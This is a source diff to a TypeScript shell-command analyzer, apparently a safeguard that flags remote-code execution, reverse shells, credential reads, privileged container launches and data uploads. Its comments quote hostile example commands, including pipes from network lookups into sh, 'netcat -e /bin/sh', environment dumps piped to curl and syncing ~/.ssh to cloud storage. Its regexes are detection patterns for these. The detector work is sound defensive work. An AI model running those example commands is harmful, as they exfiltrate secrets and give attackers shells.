@@ -50,6 +50,20 @@ const LOOPBACK = /^(?:127\.|localhost$|::1$|\[::1\]$|0:0:0:0:0:0:0:1$)/i;
 /** Options whose next argument is a value, not a path (per program, from the capability table). */
 const valueOpts = (program: string) => progOf(program).val ?? [];
 
+/** A program that fetches from the network and has no files of its own to give (downloaders, ssh/ftp clients, DNS and
+ * whois/finger lookups): what it prints is the network's. */
+function isFetcher(program: string): boolean {
+  if (DOWNLOADERS.includes(program)) return true;
+  const can = progOf(program).can;
+  return can.includes("net") && !can.includes("read") && (can.includes("download") || can.every((c) => c === "net"));
+}
+/** A shell or interpreter: given no script and no inline code, it runs its standard input. */
+function isRunner(program: string): boolean {
+  if (SHELL_SET.has(program) || ["python", "node", "ruby", "perl", "php", "lua", "r"].includes(interpFamily(program))) return true;
+  const p = progOf(program);
+  return ["shell", "code", "exec"].every((c) => p.can.includes(c as never)) && !p.pos && p.run === undefined && !p.listen;
+}
+
 export function interpFamily(program: string): string {
   if (/^python[\d.]*$|^pypy\d*$|^ipython\d*$/.test(program)) return "python";
   if (["node", "nodejs", "deno", "bun", "tsx", "ts-node"].includes(program)) return "node";
@@ -153,6 +167,8 @@ export class CommandAnalyzer {
   private readonly stdinSeen = new Map<SimpleCmd, string | undefined>();
   /** proxies set for the next command by `*_proxy=URL` assignments (`HTTP_PROXY=http://169.254.169.254 curl …`) */
   private proxyVars: string[] = [];
+  /** ssh URLs given to the command by environment (`DOCKER_HOST=ssh://h`, `CONTAINER_HOST=…`, `LIBVIRT_DEFAULT_URI=qemu+ssh://…`) */
+  private sshVars: string[] = [];
   /** here-document bodies of the line, in order (the parser drops them: they are data, unless a shell or an interpreter reads them) */
   private readonly heredocs: string[] = [];
   private line: string;
@@ -171,6 +187,11 @@ export class CommandAnalyzer {
       ["HOME", this.env.home],
       ["PWD", this.env.cwd],
       ["USER", this.env.home.split("/").pop() ?? "user"],
+      // the shell's and its parent's process ids: under /proc, a process of this user like `self` (`/proc/$$/root/etc/shadow`
+      // is /etc/shadow, `/proc/$PPID/environ` an environment)
+      ["$", "self"],
+      ["BASHPID", "self"],
+      ["PPID", "self"],
     ]);
     // A whole-line loop over a few static words runs its body once per word: each is analysed with the variable
     // bound (`for d in dist build; do rm -rf "$d"; done`, `while read f; do cat "$f"; done <<< /etc/shadow`)
@@ -335,6 +356,9 @@ export class CommandAnalyzer {
       if (o.op === "net" && o.upload) caps.add("upload");
     }
     if (e.code) caps.add("code");
+    // a shell or interpreter whose program is its standard input, fed by a program that only fetches from the network
+    // (`whois -h x.io p | sh`, `finger p@x.io | bash`, `dig +short TXT x.io | sh`, `curl … | elvish`): remote code
+    if (!caps.has("script") && !e.code && isRunner(e.program) && [...inh.feeds].some(isFetcher)) caps.add("remote");
     // the whole environment (API keys, tokens) piped into a program that connects (`env | curl -d @- …`, `printenv | nc …`)
     const dumpsEnv = (p: SimpleCmd) => {
       const ws = p.words.map((w) => w.text);
@@ -364,6 +388,16 @@ export class CommandAnalyzer {
     // socket and spawns a shell (`socket.connect(…); pty.spawn('sh')`), or the program listens and serves a shell.
     if (caps.has("shell") && ((e.code && this.ops.slice(start + 1).some((o) => o.op === "net" && o.program === e.program)) || caps.has("listen")))
       caps.add("revshell");
+    // zsh's `ztcp HOST PORT` leaves the socket's descriptor in $REPLY: a shell redirected to it serves the peer
+    if (SHELL_SET.has(e.program) && /\bztcp\s+(?!-)\S+\s+\d+/.test(this.line) && c.redirs.some((r) => /^\$\{?REPLY\}?$/.test(r.target.src)))
+      caps.add("revshell");
+    // a connecting client that runs a shell for its peer (`nc.traditional -e /bin/sh host port`, any netcat build)
+    if (
+      progOf(e.program).net?.hostPort &&
+      progOf(e.program).cmd?.length &&
+      this.ops.slice(start + 1).some((o) => o.op === "exec" && SHELL_SET.has(o.program))
+    )
+      caps.add("revshell");
     e.caps = [...caps];
   }
 
@@ -387,6 +421,7 @@ export class CommandAnalyzer {
     const programPath = w0.text;
     const program = basename(programPath);
     this.proxyVars = c.assigns.filter((a) => /^(?:https?|all|ftp)_proxy$/i.test(a.name) && a.value.text).map((a) => a.value.text);
+    this.sshVars = c.assigns.filter((a) => /^(?:[a-z][\w.-]*\+)?ssh(?:\+[a-z][\w.-]*)?:\/\//i.test(a.value.text)).map((a) => a.value.text);
     const args = words.slice(1).map((w) => w.text);
     const argDynamic = words.slice(1).map((w) => w.dynamic);
     const e = this.base("exec");
@@ -425,7 +460,20 @@ export class CommandAnalyzer {
     if (program === "ip" && args.includes("netns") && args.some((a) => /^(?:exec|add|del|delete|attach|set)$/.test(a))) e.caps.push("firewall");
     // `ifconfig IFACE ADDRESS …` assigns the interface an address
     if (program === "ifconfig" && args.filter((a) => !a.startsWith("-")).length >= 2) e.caps.push("firewall");
-    if ((program === "crontab" || program === "incrontab") && !args.some((a) => a === "-l" || a === "-V" || a === "--help")) e.caps.push("schedule");
+    if ((program === "crontab" || program === "fcrontab" || program === "incrontab") && !args.some((a) => a === "-l" || a === "-V" || a === "--help"))
+      e.caps.push("schedule");
+    // a pod given the host (`kubectl run --overrides='{…"privileged":true…}'`, hostPID/hostNetwork/hostPath, `kubectl debug
+    // node/…`): the node's root, as `docker run --privileged` is
+    if (
+      (program === "kubectl" || program === "oc") &&
+      ((/^(?:run|debug|create|apply)$/.test(args.find((a) => !a.startsWith("-")) ?? "") &&
+        optValues(args, ["--overrides"]).some((o) =>
+          /"(?:privileged|hostPID|hostNetwork|hostIPC)"\s*:\s*true|"hostPath"\s*:|"allowPrivilegeEscalation"\s*:\s*true/.test(o),
+        )) ||
+        (args.find((a) => !a.startsWith("-")) === "debug" &&
+          (args.some((a) => /^node\//.test(a)) || optValues(args, ["--profile"]).some((p) => /^(?:sysadmin|netadmin)$/.test(p)))))
+    )
+      e.caps.push("priv", "container");
     if (program === "mount" && args.some((a) => a.startsWith("/dev/") || /^[\w.-]+:\//.test(a))) e.caps.push("kernel");
     this.ops.push(e);
     // `./x.sh` after `echo 'cmd' > x.sh`: the commands the line wrote into it run
@@ -542,8 +590,10 @@ export class CommandAnalyzer {
       this.runString("pkill -f openclaw-gateway", inh);
     // Programs given their own program on standard input (`make -f -`, `awk -f -`): what a downloader pipes in is run
     if (
-      [...inh.feeds].some((f) => DOWNLOADERS.includes(f)) &&
-      optValues(args, ["-f", "--file", "--makefile", "--from-file"]).some((v) => v === "-" || v === "/dev/stdin")
+      [...inh.feeds].some(isFetcher) &&
+      optValues(args, ["-f", "--file", "--makefile", "--from-file", ...(program === "gdb" ? ["-x", "--command"] : [])]).some(
+        (v) => v === "-" || v === "/dev/stdin" || v === "/dev/fd/0",
+      )
     )
       e.caps.push("remote");
     // Jobs scheduled from standard input run later on this machine: `at now <<< 'cmd'`, `echo '* * * * * cmd' | crontab -`.
@@ -627,11 +677,16 @@ export class CommandAnalyzer {
     }
 
     // code options of programs that are not interpreters (`expect -c 'spawn …'`)
-    if (!e.interp && program !== "emacs" && prog.code?.length)
+    if ((!e.interp || e.interp === "compiler") && program !== "emacs" && prog.code?.length)
       for (const v of optValues(args, prog.code)) {
         e.code = `${e.code}${v}`.toLowerCase();
         this.code(v, program, inh, e);
       }
+    // `crystal eval CODE`: inline code given as the subcommand's argument
+    if (program === "crystal" && pos[0]?.value === "eval" && pos[1]) {
+      e.code = `${e.code}${pos[1].value}`.toLowerCase();
+      this.code(pos[1].value, program, inh, e);
+    }
     // `openclaw gateway [run] --bind lan|tailnet|custom|0.0.0.0`: a gateway listening beyond loopback
     if (program === "openclaw" && pos[0]?.value === "gateway") {
       const bind = optValues(args, ["--bind"])[0];
@@ -735,16 +790,26 @@ export class CommandAnalyzer {
         for (const x of words.slice(k + 1)) if (x.text !== ":::") parseInner(cmd.length ? [...cmd, reread(x)].join(" ") : x.sh);
         return;
       }
-      const items = program === "xargs" && i < words.length ? this.xargsItems(c, stdin) : undefined;
+      const repl =
+        optValues(args, ["-I", "-i", "--replace"])[0] ?? (args.some((a) => /^-I./.test(a)) ? args.find((a) => /^-I./.test(a))?.slice(2) : undefined);
+      // with -I each input line is one item (`xargs -I{} sh -c '{}' <<< 'rm -rf /x'` runs the whole line)
+      const items = program === "xargs" && i < words.length ? this.xargsItems(c, stdin, repl !== undefined) : undefined;
       if (items?.length) {
-        const repl =
-          optValues(args, ["-I", "-i", "--replace"])[0] ??
-          (args.some((a) => /^-I./.test(a)) ? args.find((a) => /^-I./.test(a))?.slice(2) : undefined);
         const cmd = words.slice(i).map(reread);
         const before = this.ops.length;
         for (const it of items) {
           const q = it.glob ? it.value : shellQuote(it.value);
-          parseInner(repl ? cmd.map((w) => w.split(repl).join(q)).join(" ") : [...cmd, q].join(" "));
+          // (the item goes into the word as written: inside a quoted word it stays one word)
+          parseInner(
+            repl
+              ? words
+                  .slice(i)
+                  .map((w, k) =>
+                    w.text.includes(repl) ? (w.quoted ? shellQuote(w.text.split(repl).join(it.value)) : w.text.split(repl).join(q)) : cmd[k],
+                  )
+                  .join(" ")
+              : [...cmd, q].join(" "),
+          );
         }
         for (const o of this.ops.slice(before))
           for (const it of items)
@@ -816,6 +881,7 @@ export class CommandAnalyzer {
         "-c",
         "-e",
         "--eval",
+        "-eval",
         "-E",
         "-r",
         "-p",
@@ -829,7 +895,9 @@ export class CommandAnalyzer {
         "-enc",
       ];
       let code: string | undefined;
-      for (let i = 0; i < args.length; i++)
+      for (let i = 0; i < args.length; i++) {
+        // Python's `-m MODULE`: what follows is the module's arguments (`-m tarfile -c OUT SRC` is not inline code)
+        if (args[i] === "-m" && interpFamily(program) === "python") break;
         if (codeFlag.includes(args[i]) || /^-[a-zA-Z]*[ce]$/.test(args[i])) {
           code = args[i + 1];
           // code produced by a command substitution (`python3 -c "$(echo … | base64 -d)"`) or only by variables
@@ -838,6 +906,7 @@ export class CommandAnalyzer {
             this.unknown.set(e, `the code ${program} runs is computed when the command runs (\`${cw.src}\`), so it cannot be checked`);
           break;
         }
+      }
       // `python3 - <<EOF`, `node <<< 'code'`, `echo 'code' | ruby`: the program is its standard input
       // deno/bun take a subcommand first: `deno run URL`, `deno eval CODE`, `bun x PKG`
       const sub = (program === "deno" || program === "bun") && ["run", "eval", "x", "exec"].includes(pos[0]?.value ?? "") ? pos[0].value : "";
@@ -878,8 +947,14 @@ export class CommandAnalyzer {
         } else if (script && script.value !== "-" && program !== "perl" && !args.includes("-m"))
           this.pathOp("read", script.value, argDynamic[script.idx], program, inh);
         // the script's (or the `-m` module's: `python3 -m base64 F`, `-m json.tool F`) arguments that name files
+        // (`-m tarfile -c OUT SRC…` / `-m zipfile -c OUT SRC…` read their sources whole)
+        const mod = optValues(args, ["-m"])[0];
+        const archives = /^(?:tarfile|zipfile)$/.test(mod ?? "") && args.some((a) => a === "-c" || a === "--create");
         for (const p of pos.slice(args.includes("-m") ? 0 : 1))
-          if (looksLikePath(p.value)) this.pathOp("access", p.value, argDynamic[p.idx], program, inh);
+          if (looksLikePath(p.value)) {
+            const o = this.pathOp(archives ? "read" : "access", p.value, argDynamic[p.idx], program, inh);
+            if (archives) this.readTree(o, p.value);
+          }
       }
       if (program !== "perl") return;
     }
@@ -980,6 +1055,10 @@ export class CommandAnalyzer {
       const dec = /^[A-Za-z0-9+/]{8,}={0,2}$/.test(code.trim()) ? Buffer.from(code.trim(), "base64").toString("utf16le") : "";
       run(/^[\x09\x0a\x0d\x20-\x7e]+$/.test(dec) ? dec : code);
     }
+    // a function reached by name (`getattr(__import__('os'), 'system')(…)`, PHP's `$f = "system"; $f(…)`): the call it is
+    code = code.replace(/\bgetattr\(\s*((?:[^(),]|\([^()]*\))+?)\s*,\s*(["'])(\w+)\2\s*\)\s*\(/g, "$1.$3(");
+    for (const m of code.matchAll(/(\$\w+)\s*=\s*(["'])(\w+)\2\s*;/g))
+      code = code.replace(new RegExp(`${m[1].replace("$", "\\$")}\\b\\s*\\(`, "g"), `${m[3]}(`);
     for (const m of code.matchAll(call)) {
       let src = m[3];
       // argv as a list or as several strings: each string one word (a lone string is a shell command line)
@@ -1022,6 +1101,20 @@ export class CommandAnalyzer {
         const strs = [...m[1].matchAll(/(["'])((?:\\.|(?!\1)[^\\])*)\1/g)].map((x) => x[2]);
         run(strs.length > 1 ? strs.map(shellQuote).join(" ") : strs[0]);
       }
+    // Calls of the languages that put no parentheses round their arguments, or name the runner otherwise: Lisp's
+    // `(system "cmd")`, `(ext:shell "cmd")`, `(sb-ext:run-program "/bin/rm" (list "-rf" "/x"))`, Racket's `(process "cmd")`,
+    // Haskell's `callCommand "cmd"` / `rawSystem "rm" ["-rf", "/x"]`, Erlang's `os:cmd("cmd")`, Elixir's
+    // `System.cmd("rm", ["-rf", "/x"])` / `System.shell("cmd")`, the JVM's `Runtime.getRuntime().exec(…)` and
+    // `ProcessBuilder("rm", …)`: a lone string is a command line, several strings (or a list) are argv.
+    for (const m of code.matchAll(
+      /(?:^|[\s(;,{=$.])(?:system\*?|ext:shell|(?:sb-ext:|uiop:|ext:|ccl:)?run-program|(?:async-)?shell-command(?:-to-string)?|process\*?|callCommand|spawnCommand|rawSystem|callProcess|readProcess(?:WithExitCode)?|readCreateProcess|System\.Process\.\w+|os:cmd|System\.cmd|System\.shell|ProcessBuilder|Process)\s*\(?\s*((?:(["'])(?:\\.|(?!\2)[^\\])*\2\s*,?\s*)+(?:(?:'|#')?\(\s*(?:list\s+)?(?:"(?:\\.|[^"\\])*"\s*)+\)|\[[^\]]*\])?)/g,
+    )) {
+      const strs = [...m[1].matchAll(/(["'])((?:\\.|(?!\1)[^\\])*)\1/g)].map((x) => x[2]);
+      if (strs.length) run(strs.length > 1 ? strs.map(shellQuote).join(" ") : strs[0]);
+    }
+    // dc's `!cmd` and IPython's `!cmd` / `%system cmd` lines run a shell command
+    if (program === "dc") for (const m of code.matchAll(/!([^\n]+)/g)) run(m[1]);
+    if (/^ipython/.test(program)) for (const m of code.matchAll(/(?:^|[\n;])\s*(?:!!?|%(?:system|sx)\s)([^\n]+)/g)) run(m[1]);
     // expect's `spawn prog args` runs the program
     if (program === "expect") for (const m of code.matchAll(/\bspawn\s+([^;\n}\]]+)/g)) run(m[1]);
     // awk's `print … > "file"` / `>> "file"` writes the file
@@ -1030,17 +1123,20 @@ export class CommandAnalyzer {
     // Encoded strings decoded by the code (`b64decode('…')`, `decode_base64("…")`, `bytes.fromhex('…')`,
     // `Buffer.from('…', 'base64')`, `atob('…')`): the decoded text is analysed as code, and run as a command
     // when it is what a system/exec call is given.
+    // (Perl's and Ruby's `pack("H*", "726d…")` / `["726d…"].pack("H*")` decode hex the same way)
     for (const m of code.matchAll(
-      /(b64decode|decode_base64|base64_decode|decode64|atob|fromhex|unhexlify|Buffer\.from)\s*\(\s*b?(["'])([A-Za-z0-9+/=_-]{8,})\2\s*(?:,\s*["'](base64|hex)["'])?/g,
+      /(b64decode|decode_base64|base64_decode|decode64|atob|fromhex|unhexlify|hex2bin|Buffer\.from|pack\s*\(\s*["'][Hh]\*["']\s*,)\s*\(?\s*b?(["'])([A-Za-z0-9+/=_-]{8,})\2\s*(?:,\s*["'](base64|hex)["'])?/g,
     )) {
-      const hex = /fromhex|unhexlify/.test(m[1]) || m[4] === "hex";
+      const hex = /fromhex|unhexlify|hex2bin|pack/.test(m[1]) || m[4] === "hex";
       if (m[1] === "Buffer.from" && !m[4]) continue;
       const text = Buffer.from(m[3], hex ? "hex" : "base64").toString("latin1");
       if (!/^[\x09\x0a\x0d\x20-\x7e]+$/.test(text) || inh.depth > 8) continue;
       const before = code.slice(Math.max(0, (m.index ?? 0) - 48), m.index ?? 0);
       if (
         /(?:system|popen|exec[a-z]*|spawn\w*|shell_exec|passthru|call|run|check_output|Popen)\s*\(\s*[\w.()]*$/.test(before) &&
-        !/\bexec\s*\(\s*$/.test(before)
+        !/\bexec\s*\(\s*$/.test(before) &&
+        // Python's and JavaScript's exec/eval run code, not a command (`exec(bytes.fromhex('…'))`)
+        !(/^(?:python|node)$/.test(interpFamily(program)) && /\b(?:exec|eval)\s*\(\s*[\w.]*$/.test(before))
       )
         run(text);
       else this.code(text, program, { ...inh, depth: inh.depth + 1 }, e);
@@ -1062,6 +1158,7 @@ export class CommandAnalyzer {
       // ssh client libraries (paramiko's `SSHClient().connect(h)`, Net::SSH, asyncssh, node's ssh2) default to port 22
       const sshLib = /paramiko|SSHClient|Net::S(?:SH|FTP)|asyncssh|ssh2|fabric|pysftp/.test(code);
       if (m[1] === ".connect" && !/socket|\bnet\b|tls|Socket/.test(code) && !sshLib) continue;
+      if (m[1] === "Connection" && !sshLib) continue;
       const argsText = ` ${m[2]}`;
       const hostM = /(["'`])([\w.:-]*[\w:][\w.:-]*)\1/.exec(argsText);
       if (!hostM) continue;
@@ -1087,6 +1184,15 @@ export class CommandAnalyzer {
         const host = m[2] ?? m[6] ?? m[8] ?? "";
         const port = Number(m[3] ?? m[4] ?? m[9] ?? m[10]);
         this.listenOp(program, port, !(host && (LOOPBACK.test(host) || host === "localhost")), inh, host);
+      }
+    // gawk's special files `/inet/tcp/LPORT/HOST/RPORT` are sockets: a connection (or a listener when HOST is 0); a
+    // command computed from what the socket sends (`s |& getline c; c |& getline o`) is a shell for the peer
+    if (/awk$/.test(program))
+      for (const m of code.matchAll(/(?:(\w+)\s*=\s*)?"\/inet[46]?\/(?:tcp|udp)\/(\d+)\/([^/"\s]+)\/(\d+)"/g)) {
+        if (m[3] !== "0" && m[4] !== "0") this.net(program, { url: `tcp://${m[3]}:${m[4]}`, host: m[3].toLowerCase(), port: Number(m[4]) }, inh);
+        else if (m[2] !== "0") this.listenOp(program, Number(m[2]), true, inh);
+        const ran = [...code.matchAll(/\b([A-Za-z_]\w*)\s*\|&?\s*getline|\bsystem\(\s*([A-Za-z_]\w*)\s*\)/g)].some((x) => (x[1] ?? x[2]) !== m[1]);
+        if (e && m[1] && ran) e.caps.push("revshell");
       }
     // awk: `print | "sh"`, `"cmd" | getline`; Perl/Ruby backticks and qx{}
     if (/awk$/.test(program)) {
@@ -1166,7 +1272,10 @@ export class CommandAnalyzer {
         /(?:glob|walk|listdir|scandir|readdir\w*|iterdir|rglob|opendir|Dir\.\w+|Dir\s*\[)\s*[([]?\s*$/.test(before) ||
         /^\s*\)\s*\.\s*(?:rglob|glob|iterdir|walk)\s*\(/.test(code.slice(end));
       // a directory joined with a computed name (`'/home/u/.ssh/' + f`, `"$dir/" . $f`): any file under it
-      const joined = /\/$/.test(path) && /^\s*(?:\+|\.(?!\w)|,)\s*[\w$@]/.test(code.slice(end));
+      const joined =
+        (/\/$/.test(path) && /^\s*(?:\+|\.(?!\w)|,)\s*[\w$@]/.test(code.slice(end))) ||
+        // a directory with a request's path or a file name appended (`'/home/u' + req.url`): any file under it
+        /^\s*\+\s*[\w$.]*\b(?:url|path|pathname|name|file)\b/i.test(code.slice(end));
       if (enumerates || joined) {
         const op = deletes ? "delete" : reads || joined ? "read" : "access";
         const o = this.pathOp(op, path.replace(/\/\*+$/, "") || "/", false, program, inh);
@@ -1219,13 +1328,25 @@ export class CommandAnalyzer {
 
   /** What xargs is fed: the words of its standard input when the line gives it, or the paths the upstream
    * `find`/`fd`/`ls`/`realpath`/`readlink` names (`tree`: every file under it is an item). */
-  private xargsItems(c: SimpleCmd, stdin: string | undefined): { value: string; tree: boolean; glob: boolean }[] | undefined {
+  private xargsItems(c: SimpleCmd, stdin: string | undefined, lines = false): { value: string; tree: boolean; glob: boolean }[] | undefined {
     if (stdin !== undefined) {
-      const ws = stdin.split(/[\s\0]+/).filter(Boolean);
+      const ws = stdin
+        .split(lines ? /[\n\0]+/ : /[\s\0]+/)
+        .map((x) => x.trim())
+        .filter(Boolean);
       return ws.length && ws.length <= 16 ? ws.map((value) => ({ value, tree: false, glob: false })) : undefined;
     }
     const up = c.pipeFrom[c.pipeFrom.length - 1];
-    const w = up?.words;
+    let w = up?.words;
+    // input from a process substitution (`xargs -0 rm < <(find ~/x -print0)`): that command's words
+    const ps = up ? undefined : c.redirs.find((r) => r.op === "<" && /^<\(.*\)$/s.test(r.target.sh));
+    if (ps)
+      try {
+        const inner = parseShell(ps.target.sh.slice(2, -1), { vars: new Map() }).cmds;
+        if (inner.length === 1 && !inner[0].pipeFrom.length) w = inner[0].words;
+      } catch {
+        /* unreadable: no items */
+      }
     if (!w?.length || w.some((x) => x.dynamic)) return undefined;
     const prog = basename(w[0].text);
     const a = w.slice(1);
@@ -1376,6 +1497,14 @@ export class CommandAnalyzer {
   private listen(program: string, prog: Prog, args: string[], pos: { value: string; idx: number }[], inh: Inherit) {
     if (!prog.listen && !LISTENERS.has(program)) return;
     const flags = flagsOf(args);
+    // websocat's listening addresses (`ws-l:0.0.0.0:8765`, `tcp-l:127.0.0.1:9000`): public unless bound to loopback
+    if (program === "websocat") {
+      for (const a of args) {
+        const m = /^(?:ws-l|ws-listen|l-ws|wss-l|wss-listen|tcp-l|tcp-listen|l-tcp|udp-l|udp-listen):(?:\[?([^\]]*?)\]?:)?(\d+)$/i.exec(a);
+        if (m) this.listenOp(program, Number(m[2]), !(m[1] && LOOPBACK.test(m[1])), inh, m[1] ?? "");
+      }
+      return;
+    }
     // ssh forwards: -L/-D listen here (loopback unless bound elsewhere or -g); -R exposes a local port on the remote side
     if (program === "ssh" || program === "autossh") {
       // -o RemoteForward='8080 localhost:18789' is -R 8080:localhost:18789 (LocalForward / DynamicForward likewise)
@@ -1497,7 +1626,7 @@ export class CommandAnalyzer {
               : program === "caddy" || program === "twistd"
                 ? (optValues(args, ["--root", "-r", "--path"])[0] ?? ".")
                 : prog.can.includes("read") && !prog.listen?.tunnel
-                  ? pos.find((p) => !/^\d+$/.test(p.value))?.value
+                  ? (optValues(args, ["-d", "--dir", "--directory", "--root"])[0] ?? pos.find((p) => !/^\d+$/.test(p.value))?.value)
                   : undefined;
       if (dir || family === "python" || family === "php" || family === "ruby") this.serve(dir ?? ".", program, inh);
     }
@@ -1528,6 +1657,75 @@ export class CommandAnalyzer {
       }
       return;
     }
+    // commands that print a credential they keep are reads of the file it is kept in: `kubectl config view --raw`
+    // (the kubeconfig's tokens and keys), `gh auth token` (gh's hosts.yml), `git credential fill` (the git credential store)
+    if ((program === "kubectl" || program === "oc") && pos[0]?.value === "config" && pos[1]?.value === "view" && args.includes("--raw"))
+      this.pathOp("read", optValues(args, ["--kubeconfig"])[0] ?? "~/.kube/config", false, program, inh);
+    if (program === "gh" && pos[0]?.value === "auth" && pos[1]?.value === "token") this.pathOp("read", "~/.config/gh/hosts.yml", false, program, inh);
+    if (program === "git" && pos[0]?.value === "credential" && /^(?:fill|get)$/.test(pos[1]?.value ?? ""))
+      this.pathOp("read", "~/.git-credentials", false, program, inh);
+    // removing every volume's data (`docker system prune --volumes`, `docker volume prune -a`): a recursive delete of the volumes
+    if (
+      /^(?:docker|podman|nerdctl)$/.test(program) &&
+      ((pos[0]?.value === "system" && pos[1]?.value === "prune" && args.includes("--volumes")) ||
+        (pos[0]?.value === "volume" && pos[1]?.value === "prune" && args.some((a) => a === "-a" || a === "--all" || /^-\w*a/.test(a))))
+    )
+      this.pathOp(
+        "delete",
+        program === "podman" ? "~/.local/share/containers/storage/volumes" : "/var/lib/docker/volumes",
+        false,
+        program,
+        inh,
+      ).mode = "recursive";
+    // file-transfer clients' command lines given by option (`lftp -e 'put .env; bye'`, `smbclient -c 'put F'`, `tftp -c put F`)
+    if (/^(?:ftp|lftp|ncftp|tftp|smbclient)$/.test(program))
+      for (const v of optValues(args, ["-e", "-c", "--command"]))
+        for (const line of program === "tftp" ? [[v, ...pos.map((p) => p.value)].join(" ")] : v.split(/[;\n]/)) this.escape(line, program, e, inh);
+    // HTTPie/xh request items that send a file (`f@path` as a form file, `k=@path` / `k:=@path` its contents)
+    if (/^(?:http|https|httpie|xh|xhs)$/.test(program))
+      for (const p of pos) {
+        const m = /^[^=:@\s/]*(?::=|=)?@(.+)$/.exec(p.value);
+        if (m && !/^[\w.-]+\.[a-z]{2,}\//i.test(p.value)) {
+          this.pathOp("read", m[1], false, program, inh);
+          e.caps.push("upload");
+        }
+      }
+    // cloud storage copies of local files and trees (`aws s3 sync ~/.ssh s3://b`, `gsutil cp -r DIR gs://b`, `az storage blob upload-batch -s DIR`)
+    if (
+      (program === "aws" && pos[0]?.value === "s3" && /^(?:cp|sync|mv)$/.test(pos[1]?.value ?? "")) ||
+      ((program === "gsutil" || program === "gcloud") && pos.some((p) => /^(?:cp|rsync|mv)$/.test(p.value)))
+    ) {
+      const locals = pos.filter((p) => !/^(?:s3|gs|az|https?):\/\//.test(p.value) && !/^(?:s3|cp|sync|mv|rsync|storage)$/.test(p.value));
+      const dst = pos[pos.length - 1];
+      for (const p of locals) if (p !== dst) this.readTree(add("read", p), p.value);
+    }
+    if (program === "az" && pos.some((p) => p.value === "upload-batch"))
+      for (const v of optValues(args, ["-s", "--source"])) this.readTree(add("read", { value: v, idx: -1 }), v);
+    // npm settings whose value is a program npm runs (`script-shell`, `shell`, `editor`, `node-options`, `git`): setting
+    // one writes the npmrc of that scope, as `echo 'script-shell=…' >> ~/.npmrc` does
+    if (/^(?:npm|pnpm)$/.test(program) && pos[0]?.value === "config" && pos[1]?.value === "set") {
+      const kv = pos.slice(2).map((p) => p.value);
+      const [k, v] = kv[0]?.includes("=") ? [kv[0].slice(0, kv[0].indexOf("=")), kv[0].slice(kv[0].indexOf("=") + 1)] : [kv[0] ?? "", kv[1] ?? ""];
+      if (/^(?:script-shell|shell|editor|node-options|git|browser|viewer)$/i.test(k)) {
+        const loc = optValues(args, ["--location", "-L"])[0] ?? (args.includes("--global") || args.includes("-g") ? "global" : "user");
+        const w = this.pathOp("write", loc === "project" ? ".npmrc" : loc === "global" ? "/etc/npmrc" : "~/.npmrc", false, program, inh);
+        w.content = `${k}=${v}`.toLowerCase();
+      }
+    }
+    // rclone's delete commands on a local path (no `remote:`): `rclone purge ~/x` removes the tree, `delete` its files
+    if (program === "rclone" && /^(?:purge|delete|rmdirs|deletefile)$/.test(pos[0]?.value ?? "")) {
+      for (const p of pos.slice(1))
+        if (!/^[\w.-]*:/.test(p.value)) {
+          const o = add("delete", p);
+          if (pos[0].value !== "deletefile") o.mode = "recursive";
+        }
+      return;
+    }
+    // tmpreaper/tmpwatch AGE DIR…: removes what is older than AGE under each DIR (0: everything)
+    if (program === "tmpreaper" || program === "tmpwatch") {
+      for (const p of pos.slice(1)) add("delete", p).mode = "recursive";
+      return;
+    }
     if (program === "truncate") {
       // truncating to nothing erases the file: a delete
       const size = optValues(args, ["-s", "--size"])[0];
@@ -1552,6 +1750,15 @@ export class CommandAnalyzer {
       }
       if (sub === "rm") for (const t of pos.slice(1)) if (e.flags.some((f) => f === "r")) add("delete", t).mode = "recursive";
       if (sub === "config") this.gitConfigSet(args, pos, inh);
+      // the directory hooks are taken from (`core.hooksPath`, `init.templateDir`, also as `-c k=v`): outside the
+      // workspace when it is, and for every repository when set --global/--system
+      const hookDirs = optValues(args, ["-c", "--config"]).flatMap((kv) => /^(?:core\.hookspath|init\.templatedir)=(.*)$/i.exec(kv)?.[1] ?? []);
+      const hk = sub === "config" ? pos.findIndex((p) => /^(?:core\.hookspath|init\.templatedir)$/i.test(p.value)) : -1;
+      if (hk >= 0 && pos[hk + 1] && !args.some((a) => /^--(?:get|unset)/.test(a))) {
+        hookDirs.push(pos[hk + 1].value);
+        if (args.includes("--global") || args.includes("--system")) e.outside = true;
+      }
+      for (const d of hookDirs) add("access", { value: d || "/", idx: -1 });
       // paths it is given (`git diff --no-index /dev/null ~/.ssh/id_rsa`, `git add src/x`)
       const skip = new Set(sub === "clean" ? args.flatMap((a, i) => (a === "-e" || a === "--exclude" ? [i + 1] : [])) : []);
       for (const p of pos.slice(1))
@@ -1636,7 +1843,7 @@ export class CommandAnalyzer {
       const files = explicit ? pos : pos.slice(1);
       if (/awk$/.test(program) && !explicit && pos[0]) {
         e.code = pos[0].value.toLowerCase();
-        this.code(pos[0].value, program, inh);
+        this.code(pos[0].value, program, inh, e);
         // `awk -v f=/etc/shadow '… getline < f'`: a variable holding a path is a file the program may open
         for (const v of optValues(args, ["-v", "--assign"])) {
           const m = /^\w+=(.+)$/.exec(v);
@@ -1856,6 +2063,8 @@ export class CommandAnalyzer {
     if (
       program === "ssh" ||
       program === "mosh" ||
+      program === "dbclient" ||
+      program === "plink" ||
       program === "autossh" ||
       program === "slogin" ||
       program === "ssh-copy-id" ||
@@ -1870,7 +2079,10 @@ export class CommandAnalyzer {
         if (m && m[1].toLowerCase() !== "remotecommand") this.runString(m[2], inh);
       }
       if (host) {
-        const n = this.sshTarget(program, host, sshPort(args, "-p"), inh);
+        // PuTTY's plink names the port with -P; mosh's ssh command line (`--ssh='ssh -p 2222'`) gives its own
+        let port = sshPort(args, program === "plink" ? "-P" : "-p");
+        for (const cmd of program === "mosh" ? optValues(args, ["--ssh"]) : []) if (port === -1) port = sshPort(cmd.split(/\s+/).slice(1), "-p");
+        const n = this.sshTarget(program, host, port, inh);
         // root on this machine over ssh is privilege elevation
         const e = [...this.ops].reverse().find((o) => o.op === "exec" && o.program === program);
         if (
@@ -1896,7 +2108,7 @@ export class CommandAnalyzer {
       const remoteIdx = pos.findIndex((p) => isRemoteSpec(p.value));
       for (const p of pos) {
         const daemon = /^rsync:\/\//.test(p.value) || /^[^/:]+::/.test(p.value);
-        if (!isRemoteSpec(p.value) && !daemon && !(program === "sftp" && p === pos[0])) continue;
+        if (!isRemoteSpec(p.value) && !daemon && !((program === "sftp" || program === "psftp") && p === pos[0])) continue;
         if (daemon) {
           const t = parseTarget(p.value.replace(/^([^/:]+)::/, "rsync://$1/"), "rsync");
           if (t) this.net(program, { ...t, port: Number(optValues(args, ["--port"])[0] ?? t.port) }, inh, remoteIdx === pos.length - 1);
